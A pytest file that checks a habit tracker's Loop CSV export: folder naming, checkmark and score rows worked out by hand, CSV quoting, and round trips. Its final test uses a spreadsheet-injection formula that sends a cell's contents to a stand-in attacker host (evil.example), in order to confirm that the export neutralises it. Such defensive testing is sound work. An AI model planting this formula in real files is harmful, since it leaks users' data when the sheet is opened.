"""Loop CSV export (zip) after importing a Loop backup built by the tests.

The specification is DESIGN.md §3 ("Loop CSV export" and the engine rules).
Every expected label and score below is worked out by hand from those rules:
intervals and snapping in comments, scores by the recursion
score = m x previous + (1 - m) x pct with m = 0.5 ^ (sqrt(num/den) / 13).
Nothing here calls habitdesk's engine.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import zipfile
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path

import pytest

from habitdesk.facade.interchange import import_file
from tests.integration.loop_scenario import TODAY_DATE, ago, realistic
from tests.support.loop_backup import NO, SKIP, UNKNOWN, YES_MANUAL, LoopBackup

LABELS = {UNKNOWN: "UNKNOWN", NO: "NO", 1: "YES_AUTO", YES_MANUAL: "YES_MANUAL", SKIP: "SKIP"}
HABITS_HEADER = (
    "Position,Name,Type,Question,Description,FrequencyNumerator,FrequencyDenominator,"
    "Color,Unit,Target Type,Target Value,Archived?"
)
LONG_NAME = "z" * 99 + " é w"  # sanitised: 99 z, a space, a space, "w"; cut to 100 and trimmed: 99 z


def d(k: int) -> str:
    """The ISO date k days before today (negative k: after today)."""
    return ago(k).isoformat()


def fmt4(score: float) -> str:
    """Four decimals, rounded half up (as Java's %.4f)."""
    return str(Decimal(repr(score)).quantize(Decimal("0.0001"), rounding=ROUND_HALF_UP))


def smooth(pcts: list[float | None], num: int, den: int, initial: float) -> list[float]:
    """The score recursion over pct values oldest first; None is a SKIP day (score repeats)."""
    m = 0.5 ** (math.sqrt(num / den) / 13)
    score = initial
    out = []
    for pct in pcts:
        if pct is not None:
            score = m * score + (1 - m) * pct
        out.append(score)
    return out


def read_zip(path: Path) -> tuple[list[str], dict[str, bytes]]:
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        return names, {name: zf.read(name) for name in names}


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


# -- the backup: seven habits, schema 25 ------------------------------------------------
def export_backup() -> LoopBackup:
    b = LoopBackup(25)
    meditate = b.habit(
        "Meditate", question="Did you meditate?", description="10 minutes, eyes closed", color=3,
        reminder=(7, 0, 127),
    )
    run = b.habit("Run", question="Did you run?", freq=(3, 7), color=11)
    bills = b.habit('Pay bills, "monthly"', freq=(2, 30), color=19)
    screen = b.habit(
        "Screen time", question="Hours on screens?", type=1, target_type=1, target_value=10, unit="hours",
        freq=(1, 7), color=0,
    )
    pages = b.habit("Pages", type=1, target_type=0, target_value=12.5, unit="pages", color=6, archived=True)
    b.habit("瞑想", freq=(1, 3))
    b.habit(LONG_NAME)

    # Meditate, daily, with a skip, a NO, an UNKNOWN with notes and a multi-line note.
    for k, value, notes in [
        (9, YES_MANUAL, None), (8, YES_MANUAL, None), (7, SKIP, "Travel"), (6, YES_MANUAL, None),
        (5, NO, None), (4, YES_MANUAL, None), (3, UNKNOWN, "forgot?"), (2, YES_MANUAL, None),
        (1, YES_MANUAL, "Felt calm\nthen sleepy"), (0, YES_MANUAL, None),
        (40, UNKNOWN, ""),  # carries nothing: ignored, so it must not stretch any date range
    ]:
        b.rep(meditate, ago(k), value, notes)
    # Run, 3 times per week.
    for k in (30, 28, 27, 25, 23, 4, 2, 1):
        b.rep(run, ago(k), YES_MANUAL)
    b.rep(run, ago(12), NO, "Rain, heavy")
    b.rep(run, ago(3), NO, 'Knee "hurt"')
    # Pay bills, 2 times per month: 2026-10-31 (the last day of October) and 2026-11-10.
    b.rep(bills, dt.date(2026, 10, 31), YES_MANUAL)
    b.rep(bills, dt.date(2026, 11, 3), NO, "Bank closed, again")
    b.rep(bills, dt.date(2026, 11, 10), YES_MANUAL)
    # Screen time, at most 10 hours per week.
    for k, raw, notes in [
        (9, 4000, None), (8, 3500, None), (7, 0, "none, really"), (6, 2000, None), (5, SKIP, None),
        (3, 6000, None), (1, 250, None), (0, 1000, None),
    ]:
        b.rep(screen, ago(k), raw, notes)
    # Pages, at least 12.5 a day (archived).
    b.rep(pages, ago(2), 25000)
    b.rep(pages, ago(1), 10000, "short, dull")
    b.rep(pages, ago(0), 12500)
    return b


FOLDERS = [
    "001 Meditate",
    "002 Run",
    "003 Pay bills monthly",
    "004 Screen time",
    "005 Pages",
    "006",
    "007 " + "z" * 99,
]
NAMES = ["Meditate", "Run", 'Pay bills, "monthly"', "Screen time", "Pages", "瞑想", LONG_NAME]

# -- expected per-habit Checkmarks.csv rows (newest first) --------------------------------
MEDITATE_CHECKS = [
    (d(0), "YES_MANUAL", ""),
    (d(1), "YES_MANUAL", "Felt calm\nthen sleepy"),
    (d(2), "YES_MANUAL", ""),
    (d(3), "UNKNOWN", "forgot?"),
    (d(4), "YES_MANUAL", ""),
    (d(5), "NO", ""),
    (d(6), "YES_MANUAL", ""),
    (d(7), "SKIP", "Travel"),
    (d(8), "YES_MANUAL", ""),
    (d(9), "YES_MANUAL", ""),
]

# Run, 3/7. Checks newest first: T-1, T-2, T-4, T-23, T-25, T-27, T-28, T-30.
# Sliding groups of 3 (begin = oldest, center = newest), kept when center - begin < 7:
#   (T-4 .. T-1)   -> [T-4, T+2]      center T-1
#   (T-23 .. T-2), (T-25 .. T-4): span >= 7, no interval
#   (T-27 .. T-23) -> [T-27, T-21]    center T-23
#   (T-28 .. T-25) -> [T-28, T-22]    center T-25
#   (T-30 .. T-27) -> [T-30, T-24]    center T-27
# Snap, newest first: [T-27, T-21] ends before T-4: stays.
#   [T-28, T-22] reaches T-27: moves back min(T-22 - T-25, T-22 - T-27 + 1) = min(3, 6) = 3 -> [T-31, T-25]
#   [T-30, T-24] reaches T-31: moves back min(T-24 - T-27, T-24 - T-31 + 1) = min(3, 8) = 3 -> [T-33, T-27]
# Covered: T-33 .. T-21 and T-4 .. T+2. The stored NO on T-3 is inside -> YES_AUTO (notes kept);
# the NO on T-12 is outside -> NO. The range runs from T-33 (a snapped begin) to T+2.
RUN_CHECKS = [
    (d(-2), "YES_AUTO", ""),
    (d(-1), "YES_AUTO", ""),
    (d(0), "YES_AUTO", ""),
    (d(1), "YES_MANUAL", ""),
    (d(2), "YES_MANUAL", ""),
    (d(3), "YES_AUTO", 'Knee "hurt"'),
    (d(4), "YES_MANUAL", ""),
    (d(12), "NO", "Rain, heavy"),
    (d(21), "YES_AUTO", ""),
    (d(22), "YES_AUTO", ""),
    (d(23), "YES_MANUAL", ""),
    (d(24), "YES_AUTO", ""),
    (d(25), "YES_MANUAL", ""),
    (d(26), "YES_AUTO", ""),
    (d(27), "YES_MANUAL", ""),
    (d(28), "YES_MANUAL", ""),
    (d(29), "YES_AUTO", ""),
    (d(30), "YES_MANUAL", ""),
    (d(31), "YES_AUTO", ""),
    (d(32), "YES_AUTO", ""),
    (d(33), "YES_AUTO", ""),
]


def _bills_checks() -> list[tuple[str, str, str]]:
    # Pay bills, 2/30. One group: begin 2026-10-31, center 2026-11-10 (10 days apart).
    # den 30 -> size = a month; begin is the last day of October, so November's length, 30:
    # interval [2026-10-31, 2026-11-29], reaching 3 days past today.
    out = []
    day = dt.date(2026, 11, 29)
    while day >= dt.date(2026, 10, 31):
        if day in (dt.date(2026, 10, 31), dt.date(2026, 11, 10)):
            out.append((day.isoformat(), "YES_MANUAL", ""))
        elif day == dt.date(2026, 11, 3):
            out.append((day.isoformat(), "YES_AUTO", "Bank closed, again"))
        else:
            out.append((day.isoformat(), "YES_AUTO", ""))
        day -= dt.timedelta(days=1)
    return out


BILLS_CHECKS = _bills_checks()

# Measurable: the stored entries; raw values, and Loop's labels for raw -1..3.
SCREEN_CHECKS = [
    (d(0), "1000", ""),
    (d(1), "250", ""),
    (d(3), "6000", ""),
    (d(5), "SKIP", ""),
    (d(6), "2000", ""),
    (d(7), "NO", "none, really"),
    (d(8), "3500", ""),
    (d(9), "4000", ""),
]
PAGES_CHECKS = [(d(0), "12500", ""), (d(1), "10000", "short, dull"), (d(2), "25000", "")]


# -- expected per-habit scores, oldest first -----------------------------------------------
def meditate_scores() -> dict[str, str]:
    # Daily (f = 1): window 1 day, pct 1 on YES_MANUAL, else 0; the SKIP on T-7 repeats.
    #          T-9 T-8 T-7   T-6 T-5 T-4 T-3 T-2 T-1 T
    pcts = [1.0, 1.0, None, 1.0, 0.0, 1.0, 0.0, 1.0, 1.0, 1.0]
    scores = smooth(pcts, 1, 1, 0.0)
    return {d(9 - i): fmt4(s) for i, s in enumerate(scores)}


def run_scores() -> dict[str, str]:
    # f = 3/7 < 1: window 14 days, 6 checks needed. YES_MANUAL days:
    # T-30, T-28, T-27, T-25, T-23, T-4, T-2, T-1. Counts in [day-13, day], from T-33 to T:
    manual_in_window = {
        33: 0, 32: 0, 31: 0, 30: 1, 29: 1, 28: 2, 27: 3, 26: 3, 25: 4, 24: 4, 23: 5, 22: 5,
        21: 5, 20: 5, 19: 5, 18: 5, 17: 5,  # T-17: [T-30, T-17] still holds T-30
        16: 4, 15: 4, 14: 3, 13: 2, 12: 2, 11: 1, 10: 1, 9: 0, 8: 0, 7: 0, 6: 0, 5: 0,
        4: 1, 3: 1, 2: 2, 1: 3, 0: 3,
    }
    pcts = [min(1.0, manual_in_window[k] / 6) for k in range(33, -1, -1)]
    scores = smooth(pcts, 3, 7, 0.0)
    return {d(33 - i): fmt4(s) for i, s in enumerate(scores)}


def bills_scores() -> dict[str, str]:
    # f = 2/30 < 1: window 60 days, 4 checks needed; range starts 2026-10-31 = T-26.
    # One check in the window from T-26 to T-17, two from T-16 (2026-11-10) on.
    pcts = [1 / 4] * 10 + [2 / 4] * 17
    scores = smooth(pcts, 2, 30, 0.0)
    return {d(26 - i): fmt4(s) for i, s in enumerate(scores)}


def screen_scores() -> dict[str, str]:
    # At most 10 hours in 7 days; initial score 1.0; pct = clamp(1 - (R - 10) / 10, 0, 1).
    # R = hours over the 7 days ending on each day (the SKIP stored as 3 adds 0.003):
    #   T-9: 4        T-8: 4 + 3.5 = 7.5        T-7: 7.5 + 0 = 7.5     T-6: 7.5 + 2 = 9.5
    #   T-5: SKIP (score repeats)
    #   T-4: 4 + 3.5 + 0 + 2 + 0.003 = 9.503
    #   T-3: 9.503 + 6 = 15.503                  -> pct 1 - 5.503 / 10 = 0.4497
    #   T-2: T-9 leaves: 11.503                  -> pct 0.8497
    #   T-1: T-8 leaves, 0.25 comes: 8.253       -> 1
    #   T:   T-7 leaves, 1 comes: 9.253          -> 1
    def pct(r: float) -> float:
        return max(0.0, min(1.0, 1 - (r - 10) / 10))

    pcts = [pct(4), pct(7.5), pct(7.5), pct(9.5), None, pct(9.503), pct(15.503), pct(11.503), pct(8.253), pct(9.253)]
    assert pcts[6] == pytest.approx(0.4497) and pcts[7] == pytest.approx(0.8497)
    scores = smooth(pcts, 1, 7, 1.0)
    return {d(9 - i): fmt4(s) for i, s in enumerate(scores)}


def pages_scores() -> dict[str, str]:
    # At least 12.5 a day: 25 -> 1, 10 -> 0.8, 12.5 -> 1; initial 0.
    scores = smooth([1.0, 10 / 12.5, 1.0], 1, 1, 0.0)
    return {d(2 - i): fmt4(s) for i, s in enumerate(scores)}


EXPECTED_CHECKS = [MEDITATE_CHECKS, RUN_CHECKS, BILLS_CHECKS, SCREEN_CHECKS, PAGES_CHECKS, [], []]


def expected_scores() -> list[dict[str, str]]:
    empty = {d(0): "0.0000"}  # no entries: the range is today alone, where a yes/no score is 0
    return [meditate_scores(), run_scores(), bills_scores(), screen_scores(), pages_scores(), empty, dict(empty)]


# -- fixtures -------------------------------------------------------------------------------
@pytest.fixture
def exported(tracker, tmp_path: Path) -> tuple[list[str], dict[str, bytes]]:
    import_file(tracker, export_backup().write(tmp_path / "loop.db"))
    out = tmp_path / "export.zip"
    assert tracker.export_loop_csv(out) == 7
    return read_zip(out)


# -- layout -----------------------------------------------------------------------------------
def test_member_order_and_folder_names(exported) -> None:
    names, _ = exported
    expected = ["Habits.csv"]
    for folder in FOLDERS:
        expected += [f"{folder}/Scores.csv", f"{folder}/Checkmarks.csv"]
    expected += ["Scores.csv", "Checkmarks.csv"]
    assert names == expected


def test_lf_line_ends_and_utf8(exported) -> None:
    _, files = exported
    for name, data in files.items():
        assert b"\r" not in data, name
        assert data.endswith(b"\n"), name
        data.decode("utf-8")


def test_habits_csv(exported) -> None:
    _, files = exported
    assert files["Habits.csv"].decode("utf-8") == "\n".join([
        HABITS_HEADER,
        '001,Meditate,YES_NO,Did you meditate?,"10 minutes, eyes closed",1,1,#FF8F00,,,,false',
        "002,Run,YES_NO,Did you run?,,3,7,#1976D2,,,,false",
        '003,"Pay bills, ""monthly""",YES_NO,,,2,30,#aaaaaa,,,,false',
        "004,Screen time,NUMERICAL,Hours on screens?,,1,7,#D32F2F,hours,AT_MOST,10.0,false",
        "005,Pages,NUMERICAL,,,1,1,#7CB342,pages,AT_LEAST,12.5,true",
        "006,瞑想,YES_NO,,,1,3,#00897B,,,,false",
        f"007,{LONG_NAME},YES_NO,,,1,1,#00897B,,,,false",
    ]) + "\n"


@pytest.mark.parametrize("index", range(7))
def test_per_habit_checkmarks(exported, index: int) -> None:
    _, files = exported
    table = rows(files[f"{FOLDERS[index]}/Checkmarks.csv"])
    assert table[0] == ["Date", "Value", "Notes"]
    assert [tuple(r) for r in table[1:]] == EXPECTED_CHECKS[index]


@pytest.mark.parametrize("index", range(7))
def test_per_habit_scores(exported, index: int) -> None:
    """Date,Score from today back to the oldest computed entry, 4 decimals."""
    _, files = exported
    expected = expected_scores()[index]
    text = files[f"{FOLDERS[index]}/Scores.csv"].decode("utf-8")
    lines = text.split("\n")
    assert lines[0] == "Date,Score" and lines[-1] == ""
    assert lines[1:-1] == [f"{date},{score}" for date, score in sorted(expected.items(), reverse=True)]


def test_score_ranges_start_at_the_oldest_computed_entry(exported) -> None:
    _, files = exported
    oldest = {folder: rows(files[f"{folder}/Scores.csv"])[-1][0] for folder in FOLDERS}
    assert oldest == {
        "001 Meditate": d(9),  # the ignored UNKNOWN on T-40 does not count
        "002 Run": d(33),  # a snapped interval begins before the first check (T-30)
        "003 Pay bills monthly": "2026-10-31",
        "004 Screen time": d(9),
        "005 Pages": d(2),
        "006": d(0),
        "007 " + "z" * 99: d(0),
    }
    assert all(rows(files[f"{folder}/Scores.csv"])[1][0] == d(0) for folder in FOLDERS)


def test_csv_quoting_in_notes(exported) -> None:
    _, files = exported
    meditate = files["001 Meditate/Checkmarks.csv"].decode("utf-8")
    assert f'{d(1)},YES_MANUAL,"Felt calm\nthen sleepy"\n' in meditate
    assert f"{d(7)},SKIP,Travel\n" in meditate
    run = files["002 Run/Checkmarks.csv"].decode("utf-8")
    assert f'{d(3)},YES_AUTO,"Knee ""hurt"""\n' in run
    assert f'{d(12)},NO,"Rain, heavy"\n' in run
    assert f"{d(1)},YES_MANUAL,\n" in run
    screen = files["004 Screen time/Checkmarks.csv"].decode("utf-8")
    assert f'{d(7)},NO,"none, really"\n' in screen


# -- the wide files -----------------------------------------------------------------------------
def test_wide_files(exported) -> None:
    """One row per day from today back to the oldest stored entry (Run's T-30), trailing commas.

    Loop writes the names into the header as they are; a name with a comma or a quote
    is quoted here, so that the header has as many fields as the rows."""
    _, files = exported
    header = "Date," + "".join((f'"{n.replace(chr(34), 2 * chr(34))}"' if "," in n or '"' in n else n) + "," for n in NAMES)
    checks_by_habit = [{date: label for date, label, _ in checks} for checks in EXPECTED_CHECKS]
    scores_by_habit = expected_scores()
    want_checks = [header]
    want_scores = [header]
    for k in range(0, 31):
        date = d(k)
        want_checks.append(date + "," + "".join(c.get(date, "UNKNOWN") + "," for c in checks_by_habit))
        want_scores.append(date + "," + "".join(s.get(date, "0.0000") + "," for s in scores_by_habit))
    assert files["Checkmarks.csv"].decode("utf-8") == "\n".join(want_checks) + "\n"
    assert files["Scores.csv"].decode("utf-8") == "\n".join(want_scores) + "\n"
    # Spot checks of the above, written out.
    lines = files["Checkmarks.csv"].decode("utf-8").split("\n")
    assert lines[0] == 'Date,Meditate,Run,"Pay bills, ""monthly""",Screen time,Pages,瞑想,' + LONG_NAME + ","
    assert lines[1] == f"{d(0)},YES_MANUAL,YES_AUTO,YES_AUTO,1000,12500,UNKNOWN,UNKNOWN,"
    assert lines[31] == f"{d(30)},UNKNOWN,YES_MANUAL,UNKNOWN,UNKNOWN,UNKNOWN,UNKNOWN,UNKNOWN,"
    assert len(lines) == 33 and lines[32] == ""
    score_lines = files["Scores.csv"].decode("utf-8").split("\n")
    assert score_lines[31].startswith(f"{d(30)},0.0000,{run_scores()[d(30)]},0.0000,0.0000,0.0000,")


def test_header_only_wide_files_when_nothing_is_stored(tracker, tmp_path: Path) -> None:
    backup = LoopBackup(25)
    backup.habit("Meditate")
    backup.habit("Floss, daily", freq=(1, 1))
    import_file(tracker, backup.write(tmp_path / "empty-history.db"))
    out = tmp_path / "x.zip"
    assert tracker.export_loop_csv(out) == 2
    names, files = read_zip(out)
    assert names == [
        "Habits.csv",
        "001 Meditate/Scores.csv", "001 Meditate/Checkmarks.csv",
        "002 Floss daily/Scores.csv", "002 Floss daily/Checkmarks.csv",
        "Scores.csv", "Checkmarks.csv",
    ]
    assert files["Scores.csv"] == b'Date,Meditate,"Floss, daily",\n'
    assert files["Checkmarks.csv"] == b'Date,Meditate,"Floss, daily",\n'
    assert len(next(csv.reader(io.StringIO(files["Checkmarks.csv"].decode())))) == 4  # Date, two habits, the trailing comma
    assert files["001 Meditate/Checkmarks.csv"] == b"Date,Value,Notes\n"
    assert files["001 Meditate/Scores.csv"] == f"Date,Score\n{d(0)},0.0000\n".encode()


def test_folder_name_rules(tracker, tmp_path: Path) -> None:
    backup = LoopBackup(25)
    names = [
        "Café au lait",  # é removed
        "a/b\\c:d*e?",  # path and shell characters removed
        "dots.and-dashes_ok 42",  # kept as is
        "x" * 150,  # cut to 100
        LONG_NAME,  # cut to 100, then the trailing space trimmed
        "✓✓✓",  # nothing left: just the number
        "Tab\there, now",  # tab and comma removed
    ]
    for name in names:
        backup.habit(name)
    import_file(tracker, backup.write(tmp_path / "names.db"))
    out = tmp_path / "names.zip"
    tracker.export_loop_csv(out)
    folders = [n.rsplit("/", 1)[0] for n in read_zip(out)[0] if n.endswith("/Scores.csv")]
    assert folders == [
        "001 Caf au lait",
        "002 abcde",
        "003 dots.and-dashes_ok 42",
        "004 " + "x" * 100,
        "005 " + "z" * 99,
        "006",
        "007 Tabhere now",
    ]


def test_scores_round_half_up_on_the_decimal_value() -> None:
    """%.4f rounds half up on the shortest decimal form of the double (0.00015 -> 0.0002)."""
    from habitdesk.interop.loop_csv import score_text

    assert [score_text(x) for x in (0.0, 1.0, 0.00015, 0.12345, 0.99995, 0.5, 0.123449999)] == [
        "0.0000", "1.0000", "0.0002", "0.1235", "1.0000", "0.5000", "0.1234",
    ]


def test_java_style_target_values(tracker, tmp_path: Path) -> None:
    backup = LoopBackup(25)
    for target in (5, 0.25, 1234.5, 10000000, 0.0001):
        backup.habit(f"T{target}", type=1, target_value=target, unit="u")
    import_file(tracker, backup.write(tmp_path / "t.db"))
    out = tmp_path / "t.zip"
    tracker.export_loop_csv(out)
    table = rows(read_zip(out)[1]["Habits.csv"])
    assert [r[10] for r in table[1:]] == ["5.0", "0.25", "1234.5", "1.0E7", "1.0E-4"]


@pytest.mark.parametrize("schema", [22, 23, 24, 25])
def test_yes_no_unknown_with_null_notes_reaches_only_the_root_range(tracker, tmp_path: Path, schema: int) -> None:
    """Loop keeps an UNKNOWN row with NULL notes as a stored entry: invisible in the habit's
    own files (computed entries drop UNKNOWN days without notes), but the root files run back
    to the oldest stored entry, that row included. An UNKNOWN with empty notes carries nothing."""
    backup = LoopBackup(schema)
    habit = backup.habit("Journal")
    other = backup.habit("Walk")
    backup.rep(habit, ago(8), UNKNOWN)  # NULL notes: before schema 25 every row's are
    backup.rep(habit, ago(3), YES_MANUAL)
    if schema == 25:
        backup.rep(other, ago(12), UNKNOWN, "")  # carries nothing
    backup.rep(other, ago(1), YES_MANUAL)
    import_file(tracker, backup.write(tmp_path / "n.db"))
    out = tmp_path / "n.zip"
    tracker.export_loop_csv(out)
    files = read_zip(out)[1]
    assert files["001 Journal/Checkmarks.csv"] == f"Date,Value,Notes\n{d(3)},YES_MANUAL,\n".encode()
    assert rows(files["001 Journal/Scores.csv"])[-1][0] == d(3)
    checks = rows(files["Checkmarks.csv"])
    assert [row[0] for row in checks[1:]] == [d(k) for k in range(0, 9)]  # T back to T-8
    assert checks[-1] == [d(8), "UNKNOWN", "UNKNOWN", ""]
    assert rows(files["Scores.csv"])[-1] == [d(8), "0.0000", "0.0000", ""]


# -- round trip: Loop backup -> HabitDesk -> Loop CSV --------------------------------------------
def test_round_trip_through_the_cli(cli, tmp_path: Path) -> None:
    scenario = realistic(25)
    source = scenario.backup.write(tmp_path / "phone.db")
    assert cli("import", str(source)).code == 0
    out = tmp_path / "loop export.zip"
    result = cli("export", "loop-csv", str(out))
    assert result.code == 0, result
    assert result.out == f"Exported 9 habits to {out}\n"
    names, files = read_zip(out)

    order = scenario.in_list_order()
    habits_csv = rows(files["Habits.csv"])
    assert [r[1] for r in habits_csv[1:]] == [e.name for e in order]
    assert [r[11] for r in habits_csv[1:]] == [str(e.archived).lower() for e in order]
    folders = [n.rsplit("/", 1)[0] for n in names if n.endswith("/Checkmarks.csv")]
    assert folders == [
        "001 Run", "002 Pages read", "003 Pay bills", "004 Stretch gently", "005 Meditate",
        "006 Coffee", "007 Lire   lt",  # inner spaces stay; only the ends are trimmed
        "008 Call mom", "009 Water plants",
    ]

    epoch = dt.date(1970, 1, 1)
    for exp, folder in zip(order, folders):
        table = rows(files[f"{folder}/Checkmarks.csv"])[1:]
        dates = [r[0] for r in table]
        assert dates == sorted(dates, reverse=True) and len(set(dates)) == len(dates), exp.name
        got = {date: (value, notes) for date, value, notes in table}
        stored = {
            (epoch + dt.timedelta(days=day)).isoformat(): (LABELS.get(value, str(value)), notes)
            for day, (value, notes) in exp.entries.items()
        }
        if exp.measurable or (exp.num, exp.den) == (1, 1):
            # Nothing is computed: the rows are exactly the stored entries with their notes.
            assert got == stored, exp.name
            continue
        for date, (label, notes) in stored.items():
            if label in ("YES_MANUAL", "SKIP"):
                assert got[date] == (label, notes), (exp.name, date)
            else:  # a NO or an UNKNOWN with notes; inside an interval it reads YES_AUTO
                assert got[date] in ((label, notes), ("YES_AUTO", notes)), (exp.name, date)
        for date, (label, notes) in got.items():
            if label == "YES_AUTO":
                assert date not in stored or stored[date][0] in ("NO", "UNKNOWN"), (exp.name, date)
            else:
                assert stored.get(date) == (label, notes), (exp.name, date)

    # The wide files cover today back to the oldest stored entry of any habit.
    first = min(min(e.entries) for e in order if e.entries)
    oldest = (epoch + dt.timedelta(days=first)).isoformat()
    wide = rows(files["Checkmarks.csv"])
    assert wide[1][0] == TODAY_DATE.isoformat() and wide[-1][0] == oldest
    assert len(wide) - 1 == (TODAY_DATE - dt.date.fromisoformat(oldest)).days + 1


def test_text_that_a_spreadsheet_would_run_is_neutralised_and_comes_back(tracker, tmp_path: Path) -> None:
    """OWASP's advice against CSV injection: a leading apostrophe, which the import takes off again."""
    from habitdesk.core.habit import Habit, Kind
    from habitdesk.facade.tracker import Tracker
    from tests.conftest import TODAY

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Run")'
    tracker.add_habit(Habit(formula, question="+1 for today?", description="@admin", kind=Kind.MEASURABLE, unit="-kg", target_value=5.0))
    plain = tracker.add_habit(Habit("Read"))
    tracker.set_entry(plain, TODAY, YES_MANUAL, "-5 pages, =fine")
    out = tmp_path / "x.zip"
    tracker.export_loop_csv(out)
    _, files = read_zip(out)
    [row] = [r for r in csv.reader(io.StringIO(files["Habits.csv"].decode())) if r[0] == "001"]
    assert (row[1], row[3], row[4], row[8]) == ("'" + formula, "'+1 for today?", "'@admin", "'-kg")
    notes = list(csv.reader(io.StringIO(files["002 Read/Checkmarks.csv"].decode())))
    assert notes[1][2] == "'-5 pages, =fine"
    header = next(csv.reader(io.StringIO(files["Checkmarks.csv"].decode())))
    assert header[1] == "'" + formula and not any(cell.startswith(("=", "+", "-", "@")) for cell in header)

    other = Tracker(tmp_path / "again", today=TODAY)
    try:
        import_file(other, out)
        [back, read] = other.habits()
        assert (back.name, back.question, back.description, back.unit) == (formula, "+1 for today?", "@admin", "-kg")
        assert other.entry(read, TODAY) == (YES_MANUAL, "-5 pages, =fine")
    finally:
        other.close()
